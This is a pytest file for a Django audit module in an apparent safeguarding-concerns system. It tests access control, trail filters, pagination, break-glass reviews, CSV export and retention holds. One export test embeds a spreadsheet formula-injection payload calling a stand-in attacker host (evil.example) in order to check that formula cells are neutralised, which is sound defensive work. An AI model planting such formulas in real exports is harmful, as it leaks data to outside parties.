"""The managers' audit pages (issue 7, acceptance 3 and 4 and the filters)."""

import csv
import datetime as dt
import io

import pytest
from django.urls import reverse
from django.utils import timezone

from audit.context import RequestContext, reset_request_context, set_request_context
from audit.exports import FORMULA_STARTS, neutralise
from audit.models import AuditEvent, BreakGlassAccess
from audit.selectors import Cursor, TrailFilter, trail_page
from audit.services import record_break_glass, record_event
from concerns.models import Concern
from tests.factories.concerns import submit_test_concern


@pytest.fixture
def manager_client(client, cast):
    client.force_login(cast.manager)
    return client


@pytest.mark.parametrize("persona", ["clinician", "lead", "administrator"])
def test_only_managers_read_the_trail_and_refusals_are_audited(client, cast, persona):
    person = getattr(cast, persona)
    client.force_login(person)
    for name, args in (
        ("audit:trail", []),
        ("audit:break_glass", []),
        ("audit:export", []),
        ("audit:concern_access_log", ["SG-2026-000001"]),
        ("audit:retention", []),
    ):
        assert client.get(reverse(name, args=args)).status_code == 403
    assert AuditEvent.objects.filter(action="access.denied", actor=person).count() == 5


def test_viewing_the_trail_is_itself_audited(manager_client, cast):
    record_event(action="concern.acknowledged", actor=cast.lead, subject_ref="SG-2026-000009")
    response = manager_client.get(reverse("audit:trail"), {"reference": "sg-2026-000009"})
    assert response.status_code == 200
    assert b"SG-2026-000009" in response.content
    viewed = AuditEvent.objects.filter(action="audit.viewed", actor=cast.manager).get()
    assert viewed.details["page"] == "trail"
    assert viewed.details["filter"]["reference"] == "SG-2026-000009"


def test_filters_by_person_reference_action_prefix_and_dates(manager_client, cast):
    ids = [
        record_event(action="concern.viewed", actor=cast.lead, subject_ref="SG-2026-000001").id,
        record_event(action="concern.acknowledged", actor=cast.lead, subject_ref="SG-2026-000002").id,
        record_event(action="auth.login", actor=cast.clinician).id,
    ]

    def shown(**params):
        page = manager_client.get(reverse("audit:trail"), params).context["page"]
        return [e.id for e in page.events if e.action != "audit.viewed"]

    assert shown(person=cast.lead.pk) == [ids[1], ids[0]]
    assert shown(reference="SG-2026-000002") == [ids[1]]
    assert shown(action="concern.") == [ids[1], ids[0]]
    assert shown(action="auth.login", person=cast.clinician.pk) == [ids[2]]
    today = timezone.localdate()
    assert shown(date_from=today.isoformat(), date_to=today.isoformat(), action="concern.") == [ids[1], ids[0]]
    assert shown(date_to=(today - dt.timedelta(days=1)).isoformat()) == []


def test_a_bad_date_range_is_explained_beside_the_field_and_what_was_typed_is_kept(manager_client):
    response = manager_client.get(
        reverse("audit:trail"), {"date_from": "2026-03-05", "date_to": "2026-03-01", "reference": "SG-2026-000003"}
    )
    assert response.status_code == 200
    assert "The end date must be on or after the start date." in response.content.decode()
    assert 'value="SG-2026-000003"' in response.content.decode()


def test_keyset_pages_do_not_overlap_and_cover_everything(db):
    made = [record_event(action="audit.chain_verified", details={"n": n}).id for n in range(23)]
    seen, cursor, pages = [], None, 0
    while True:
        page = trail_page(TrailFilter(action="audit.chain_"), cursor, size=10)
        seen.extend(e.id for e in page.events)
        pages += 1
        if page.next_cursor is None:
            break
        cursor = Cursor.decode(page.next_cursor.encode())
    assert pages == 3
    assert seen == sorted(made, reverse=True)


def test_a_malformed_cursor_shows_the_first_page(manager_client):
    record_event(action="auth.login")
    response = manager_client.get(reverse("audit:trail"), {"before": "not-a-cursor"})
    assert response.status_code == 200 and response.context["page"].is_first


def test_a_lead_opens_a_concern_page_and_its_access_log_shows_it(client, cast):
    """Acceptance 3, through the real concern page (concerns:detail writes concern.viewed)."""
    concern = submit_test_concern(reporter=cast.clinician)
    client.force_login(cast.lead)
    assert client.get(reverse("concerns:detail", args=[concern.pk])).status_code == 200
    client.force_login(cast.manager)
    response = client.get(reverse("audit:concern_access_log", args=[concern.reference]))
    assert response.status_code == 200
    rows = [e for e in response.context["page"].events if e.action == "concern.viewed"]
    assert [e.actor for e in rows] == [cast.lead]
    assert cast.lead.email in response.content.decode()


def test_the_access_log_lists_break_glass_openings_and_not_other_events(manager_client, cast):
    record_break_glass(
        actor=cast.lead_other_team, concern_reference="SG-2026-000004", team=cast.team, reason="Covering the duty phone"
    )
    record_event(action="concern.acknowledged", actor=cast.lead, subject_ref="SG-2026-000004")
    response = manager_client.get(reverse("audit:concern_access_log", args=["SG-2026-000004"]))
    actions = [e.action for e in response.context["page"].events]
    assert actions == ["concern.break_glass"]
    assert "Covering the duty phone" in response.content.decode()


def test_a_persons_activity(manager_client, cast):
    record_event(action="concern.viewed", actor=cast.deputy, subject_ref="SG-2026-000005")
    record_event(action="concern.viewed", actor=cast.lead, subject_ref="SG-2026-000006")
    response = manager_client.get(reverse("audit:person_activity", args=[cast.deputy.pk]))
    assert [e.subject_ref for e in response.context["page"].events] == ["SG-2026-000005"]
    assert manager_client.get(reverse("audit:person_activity", args=[999999])).status_code == 404


def test_break_glass_review_list_marks_reviewed_and_keeps_a_rejected_comment(manager_client, cast):
    access = record_break_glass(
        actor=cast.lead_other_team, concern_reference="SG-2026-000007", team=cast.team, reason="Night cover"
    )
    url = reverse("audit:break_glass_review", args=[access.pk])
    response = manager_client.get(reverse("audit:break_glass"))
    assert "Night cover" in response.content.decode()

    response = manager_client.post(url, {f"bg{access.pk}-comment": ""})
    assert response.status_code == 400
    assert "This field is required." in response.content.decode()

    response = manager_client.post(url, {f"bg{access.pk}-comment": "Checked the rota: Olga was on nights"})
    assert response.status_code == 302
    access.refresh_from_db()
    assert access.reviewed_by == cast.manager and access.review_comment == "Checked the rota: Olga was on nights"

    response = manager_client.post(url, {f"bg{access.pk}-comment": "A second look"})
    assert response.status_code == 400
    body = response.content.decode()
    assert "already been reviewed" not in body or "A second look" in body


def test_a_manager_cannot_review_their_own_break_glass(client, cast):
    cast.manager.covered_teams.add(cast.team)
    access = BreakGlassAccess.objects.create(
        actor=cast.manager, concern_reference="SG-2026-000008", team=cast.team, reason="x", opened_at=timezone.now()
    )
    client.force_login(cast.manager)
    response = client.post(
        reverse("audit:break_glass_review", args=[access.pk]), {f"bg{access.pk}-comment": "Fine by me"}
    )
    assert response.status_code == 400
    body = response.content.decode()
    assert "Someone else must review" in body and "Fine by me" in body


@pytest.mark.parametrize("start", FORMULA_STARTS)
def test_neutralise_prefixes_every_formula_start(start):
    assert neutralise(f"{start}SUM(A1)") == f"'{start}SUM(A1)"
    assert neutralise("plain") == "plain"
    assert neutralise(None) == ""


def test_csv_export_neutralises_formula_cells_is_valid_csv_and_is_audited_first(client, cast):
    """Acceptance 4."""
    hostile = '=HYPERLINK("http://evil.example/?"&A1,"Click")'
    token = set_request_context(RequestContext(request_id="r1", ip_address="10.0.0.1", user_agent=hostile))
    try:
        record_event(action="auth.login_failed", details={"attempted_login": "-2+3"})
    finally:
        reset_request_context(token)
    record_event(
        action="concern.viewed",
        actor=cast.lead,
        subject_ref="SG-2026-000010",
        details={"note": 'line one\nline "two", with comma'},
    )
    client.force_login(cast.manager)
    response = client.get(reverse("audit:export"), {"action": "auth."})
    assert response.status_code == 200
    assert response["Content-Type"].startswith("text/csv")
    # The export is on record before a single row has been produced.
    exported = AuditEvent.objects.get(action="audit.exported")
    assert exported.details["filter"]["action"] == "auth."
    body = b"".join(response.streaming_content).decode()
    rows = list(csv.DictReader(io.StringIO(body)))
    assert rows and all(r["action"].startswith("auth.") for r in rows)
    agents = {r["user_agent"] for r in rows}
    assert "'" + hostile in agents
    assert not any(cell.startswith(FORMULA_STARTS) for row in rows for cell in row.values())

    everything = b"".join(client.get(reverse("audit:export")).streaming_content).decode()
    parsed = list(csv.DictReader(io.StringIO(everything)))
    note = next(r for r in parsed if r["subject_ref"] == "SG-2026-000010")
    assert 'line "two", with comma' in note["details"].encode().decode("unicode_escape")


def test_retention_lists_records_past_retention_and_keeps_csa_on_legal_hold(manager_client, cast):
    csa = submit_test_concern(reporter=cast.clinician, categories=("child-sexual",))
    physical = submit_test_concern(reporter=cast.clinician, categories=("child-physical",))
    recent = submit_test_concern(reporter=cast.clinician, categories=("child-physical",))
    long_ago = timezone.now() - dt.timedelta(days=365 * 26)
    Concern.objects.filter(pk__in=[csa.pk, physical.pk]).update(status="closed", closed_at=long_ago)
    Concern.objects.filter(pk=recent.pk).update(status="closed", closed_at=timezone.now())
    response = manager_client.get(reverse("audit:retention"))
    assert response.status_code == 200
    review = next(r for r in response.context["reviews"] if r.model_label == "concerns.Concern")
    assert [c.pk for c in review.due] == [physical.pk]
    assert [c.pk for c in review.held] == [csa.pk]
    assert not review.problems
    assert Concern.objects.filter(pk=csa.pk).exists()  # reviewed, never deleted


def test_a_broken_legal_hold_rule_holds_everything(cast, settings):
    from audit.retention import review_rule

    settings.RETENTION_LEGAL_HOLDS = {"concerns.Concern": [{"reason": "x", "lookup": {"no_such_field": 1}}]}
    concern = submit_test_concern(reporter=cast.clinician, categories=("child-physical",))
    Concern.objects.filter(pk=concern.pk).update(status="closed", closed_at=timezone.now() - dt.timedelta(days=9999))
    review = review_rule("concerns.Concern", {"years": 25, "date_field": "closed_at"})
    assert review.problems and review.due == [] and [c.pk for c in review.held] == [concern.pk]
